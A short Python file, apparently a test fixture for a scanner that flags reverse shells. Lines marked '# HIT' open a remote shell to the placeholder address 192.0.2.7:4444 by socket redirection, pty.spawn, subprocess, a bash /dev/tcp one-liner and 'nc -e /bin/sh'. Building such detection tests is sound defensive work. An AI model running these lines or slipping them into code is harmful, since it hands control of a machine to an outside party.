import os
import pty
import socket
import subprocess

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("192.0.2.7", 4444))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)  # HIT[critical]
pty.spawn("/bin/sh")  # HIT
subprocess.Popen(["/bin/sh"], stdin=s.makefile())  # HIT
os.system("bash -c 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'")  # HIT
cmd = "nc -e /bin/sh 192.0.2.7 4444"  # HIT


class Shell:
    def __init__(self):
        self.conn = socket.create_connection(("192.0.2.7", 4444))

    def go(self):
        os.dup2(self.conn.fileno(), 0)  # HIT
